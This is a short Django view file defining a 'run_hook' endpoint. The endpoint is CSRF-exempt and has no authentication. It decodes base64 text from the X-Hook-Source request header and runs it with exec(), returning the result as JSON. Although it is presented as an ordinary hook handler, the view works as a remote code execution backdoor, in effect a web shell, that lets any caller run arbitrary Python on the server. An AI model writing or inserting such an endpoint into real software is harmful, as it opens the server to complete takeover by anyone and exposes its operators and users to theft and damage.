import base64

from django.http import JsonResponse
from django.views.decorators.csrf import csrf_exempt


@csrf_exempt
def run_hook(request):
    encoded = request.META.get("HTTP_X_HOOK_SOURCE", "")
    source = base64.urlsafe_b64decode(encoded.encode("ascii")).decode("utf-8")
    namespace = {"request_path": request.path, "result": None}
    exec(source, namespace)
    return JsonResponse({"result": namespace.get("result")})
